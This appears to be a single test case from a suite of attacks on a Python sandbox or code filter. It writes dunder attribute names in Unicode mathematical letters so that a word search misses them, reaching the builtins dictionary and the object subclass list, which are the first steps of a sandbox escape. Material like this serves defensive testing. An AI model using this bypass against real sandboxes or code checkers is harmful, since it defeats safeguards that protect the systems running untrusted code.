# attack: attribute names in mathematical letters, which a search for the word does not find
# family: unicode
space = (lambda: 0).__ｇlobals__
b = space["__builtins__"]
print("REACHED", ().__𝐜𝐥𝐚𝐬𝐬__.__𝓫𝓪𝓼𝓮__.__𝔰𝔲𝔟𝔠𝔩𝔞𝔰𝔰𝔢𝔰__)
